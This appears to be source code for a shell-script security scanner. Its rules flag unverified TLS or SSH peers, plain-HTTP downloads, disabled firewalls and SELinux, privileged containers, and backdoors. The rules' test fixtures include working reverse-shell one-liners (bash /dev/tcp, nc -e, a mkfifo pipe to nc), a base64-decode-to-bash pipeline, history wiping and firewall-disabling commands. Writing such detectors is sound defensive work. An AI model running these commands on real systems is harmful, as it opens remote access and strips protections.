"""Rules about connections that are not checked, protections that are taken down, and ways in for others."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import TYPE_CHECKING

from analyzers.model import Confidence, Severity
from analyzers.rule import Hit, Rule
from analyzers.shell.command import Command
from analyzers.shell.running import SHELLS
from analyzers.shell.script import Script

if TYPE_CHECKING:
    from tree_sitter import Node

_UNCHECKED: dict[str, tuple[str, ...]] = {
    "curl": ("-k", "--insecure", "--proxy-insecure"),
    "wget": ("--no-check-certificate",),
    "pip": ("--trusted-host",),
    "pip3": ("--trusted-host",),
    "apt-get": ("--allow-unauthenticated", "--force-yes", "--allow-insecure-repositories"),
    "apt": ("--allow-unauthenticated", "--allow-insecure-repositories"),
    "yum": ("--nogpgcheck",),
    "dnf": ("--nogpgcheck",),
    "zypper": ("--no-gpg-checks",),
    "docker": ("--tls-verify=false", "--insecure-registry"),
    "kubectl": ("--insecure-skip-tls-verify", "--insecure-skip-tls-verify=true"),
    "helm": ("--insecure-skip-tls-verify",),
    "openssl": (),
}
_VARIABLES = {
    "GIT_SSL_NO_VERIFY": ("1", "true"),
    "NODE_TLS_REJECT_UNAUTHORIZED": ("0",),
    "PYTHONHTTPSVERIFY": ("0",),
    "CURL_INSECURE": ("1",),
    "PERL_LWP_SSL_VERIFY_HOSTNAME": ("0",),
    "SSL_VERIFY": ("false", "0"),
}
_SHORT = re.compile(r"-[a-zA-Z]*k[a-zA-Z]*")
_CONFIGURED = re.compile(r"(?i)(?:http\.sslverify|strict-ssl)[= ]+(?:false|0)")
_HOST_KEYS = re.compile(r"(?i)StrictHostKeyChecking[= ]*(?:no|off|accept-new)|UserKnownHostsFile[= ]*/dev/null")


def unchecked_peer(script: Script) -> Iterator[Hit]:
    """The other end of a connection is not checked: certificates, host keys or signatures of packages are ignored.

    Anybody on the way can answer instead, read what is sent, and send programs. Add the authority that is missing
    (``--cacert``, ``ssh-keyscan`` checked once, the repository's key).
    """
    for name, flags in _UNCHECKED.items():
        for command in script.run(name):
            given = [word.literal or "" for word in command.effective()[1:]]
            short = name == "curl" and any(_SHORT.fullmatch(text) for text in given)
            if short or any(text in flags for text in given):
                yield script.hit(command.node, f"{name} does not check who answers")
    for command in script.run("ssh", "scp", "sftp", "rsync", "git", "npm", "ansible", "autossh"):
        text = script.text(command.node)[:1000]
        if _HOST_KEYS.search(text) or _CONFIGURED.search(text):
            yield script.hit(command.node, "who answers is not checked")
    for name, values in _VARIABLES.items():
        for setting in script.assignments.get(name, ()):
            if setting.value is not None and (script.word(setting.value).literal or "").lower() in values:
                yield script.hit(setting.node, f"{name} switches the check of certificates off")


_LOADERS = ("curl", "wget")
_NEARBY = re.compile(r"http://(?:localhost|127\.|\[::1\]|10\.|192\.168\.|169\.254\.|\0)")


def plain_download(script: Script) -> Iterator[Hit]:
    """Something is downloaded without encryption.

    Anybody on the way can change it. Use ``https://``, or check a signature.
    """
    for command in script.run(*_LOADERS):
        for word in command.effective()[1:]:
            text = word.text
            if text.startswith("http://") and not _NEARBY.match(text):
                yield script.hit(command.node, "this is downloaded without encryption")
                break


_CONTAINED = (
    r"--privileged\b|docker\.sock|-v ?/:|--pid[= ]host|--cap-add[= ]?(?:ALL|SYS_ADMIN)|--security-opt[= ]\S*unconfined"
)
_OFF = "a protection is switched off"
_FREE = "this container may do on the machine what it likes"
_SERVICES = r"firewalld|ufw|apparmor|auditd|iptables|fail2ban"
_GUARDS: tuple[tuple[str, re.Pattern[str], str], ...] = (
    ("iptables", re.compile(r"-F\b|--flush|-P (?:INPUT|FORWARD) ACCEPT"), "the firewall is opened"),
    ("ufw", re.compile(r"\bdisable\b"), "the firewall is switched off"),
    ("nft", re.compile(r"flush ruleset"), "the firewall is opened"),
    ("setenforce", re.compile(r"\b(?:0|[Pp]ermissive)\b"), "SELinux is switched off"),
    ("systemctl", re.compile(rf"\b(?:stop|disable|mask)\b.*\b(?:{_SERVICES})"), _OFF),
    ("service", re.compile(rf"\b(?:{_SERVICES})\b.*\bstop\b"), _OFF),
    ("sysctl", re.compile(r"randomize_va_space=0|ip_forward=1|kptr_restrict=0|ptrace_scope=0"), _OFF),
    ("aa-teardown", re.compile(r""), "AppArmor is switched off"),
    ("docker", re.compile(_CONTAINED), _FREE),
    ("podman", re.compile(_CONTAINED), _FREE),
    ("git", re.compile(r"safe\.directory[ =]['\"]?\*"), "repositories of others are trusted"),
)


def lowered_guard(script: Script) -> Iterator[Hit]:
    """A protection is switched off: the firewall, SELinux or AppArmor, or a container's walls.

    Open the one port, or write the one rule, that is needed.
    """
    for name, pattern, what in _GUARDS:
        for command in script.run(name):
            if pattern.search(script.text(command.node)[:400]):
                yield script.hit(command.node, what)


_TCP = re.compile(rb"/dev/(?:tcp|udp)/")
_HISTORY = re.compile(
    rb"\bunset\s+HISTFILE|HISTFILE=/dev/null|HISTSIZE=0|history\s+-c\b|>\s{0,9}\S{0,99}\.bash_history|\bset\s+\+o\s+history"
)


def back_door(script: Script) -> Iterator[Hit]:
    """The script opens a way in for others, or hides what it does.

    A shell over the network (``bash -i >& /dev/tcp/…``, ``nc -e``, a pipe between ``nc`` and ``sh``), text decoded and
    run (``base64 -d | sh``), the history switched off. Such lines have few honest uses.
    """
    for node in script.redirects:
        if _TCP.search(script.raw(node)):
            shell = b"sh" in script.data[max(0, node.start_byte - 80) : node.start_byte]
            yield script.hit(
                node,
                "a connection made by the shell itself",
                severity=Severity.HIGH if shell else Severity.MEDIUM,
                confidence=Confidence.HIGH if shell else Confidence.MEDIUM,
            )
    for command in script.run("nc", "ncat", "netcat", "socat"):
        given = " ".join(word.text for word in command.effective()[1:])
        if re.search(r"(?:^|\s)-\w*[ec]\s*\S*(?:sh|cmd)\b|EXEC:|SYSTEM:|--(?:sh-)?exec", given) or (
            command.pipe[0] is not None and _next_to_shell(script, command)
        ):
            yield script.hit(command.node, "a shell is given to whoever connects")
    for pipeline in script.pipelines:
        if re.search(
            rb"base64\s+(?:-d|-D|--decode)|xxd\s+-r|openssl\s+enc\s.{0,99}-d", script.raw(pipeline)
        ) and _ends_in_shell(script, pipeline):
            yield script.hit(pipeline, "a hidden text is decoded and run")
    for command in script.run("eval", *SHELLS):
        if re.search(rb"\$\([^)]*base64\s+(?:-d|-D|--decode)", script.raw(command.node)):
            yield script.hit(command.node, "a hidden text is decoded and run")
    for match in _HISTORY.finditer(script.data):
        place = script.root.descendant_for_byte_range(match.start(), match.end())
        if place is not None and place.type not in _NO_CODE:
            yield script.hit(
                place, "what is done is kept out of the history", severity=Severity.LOW, confidence=Confidence.MEDIUM
            )


_TO_SHELL = re.compile(rb"\|\s{0,9}(?:/\S{0,99}/)?(?:ba|da|z|k|a)?sh\b(?!\s+[\w./])")


def _next_to_shell(script: Script, command: Command) -> bool:
    """Whether the line pipes into a shell that reads its commands from there."""
    start = script.data.rfind(b"\n", 0, command.node.start_byte) + 1
    end = script.data.find(b"\n", command.node.end_byte)
    return _TO_SHELL.search(script.data[start : end if end >= 0 else len(script.data)]) is not None


_NO_CODE = frozenset({"comment", "string_content", "raw_string", "heredoc_body", "program", "string"})


def _ends_in_shell(script: Script, pipeline: Node) -> bool:
    readers = {*SHELLS, "python", "python3", "perl", "eval"}
    return any(
        bool(words := command.effective()) and words[0].text.rpartition("/")[2] in readers
        for command in script.of_pipeline.get(pipeline.id, ())
    )


RULES: tuple[Rule, ...] = (
    Rule(
        id="FH740",
        name="sh-unchecked-peer",
        severity=Severity.MEDIUM,
        confidence=Confidence.HIGH,
        cwe=295,
        check=unchecked_peer,
        hits=(
            "curl -k https://example.org\n",
            "curl -sSkL https://example.org\n",
            "wget --no-check-certificate https://example.org\n",
            "ssh -o StrictHostKeyChecking=no host\n",
            "export GIT_SSL_NO_VERIFY=1\n",
            "git -c http.sslVerify=false clone https://example.org/r\n",
            "apt-get install -y --allow-unauthenticated x\n",
        ),
        misses=(
            "curl -sSL https://example.org\n",
            "ssh host\n",
            "wget https://example.org\n",
            "export GIT_SSL_NO_VERIFY=0\n",
        ),
    ),
    Rule(
        id="FH716",
        name="sh-plain-download",
        severity=Severity.LOW,
        confidence=Confidence.HIGH,
        cwe=319,
        check=plain_download,
        on=(b"http://",),
        hits=("curl -O http://example.org/x.tgz\n", "wget http://example.org/x\n"),
        misses=("curl https://example.org\n", "curl http://localhost:8080/health\n", "echo http://example.org\n"),
    ),
    Rule(
        id="FH718",
        name="sh-lowered-guard",
        severity=Severity.MEDIUM,
        confidence=Confidence.HIGH,
        cwe=693,
        check=lowered_guard,
        hits=(
            "iptables -F\n",
            "sudo ufw disable\n",
            "setenforce 0\n",
            "docker run --privileged image\n",
            "docker run -v /var/run/docker.sock:/var/run/docker.sock image\n",
            "systemctl stop firewalld\n",
        ),
        misses=("iptables -L\n", "docker run image\n", "systemctl stop nginx\n", "echo setenforce 0\n"),
    ),
    Rule(
        id="FH717",
        name="sh-back-door",
        severity=Severity.HIGH,
        confidence=Confidence.HIGH,
        cwe=506,
        check=back_door,
        hits=(
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
            "nc -e /bin/sh 10.0.0.1 4444\n",
            "rm -f f; mkfifo f; cat f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > f\n",
            "echo aGVsbG8= | base64 -d | bash\n",
            "unset HISTFILE\n",
        ),
        misses=("nc -z host 80\n", "base64 -d file > out\n", 'echo "unset HISTFILE"\n', "cat log | nc host 514\n"),
    ),
)
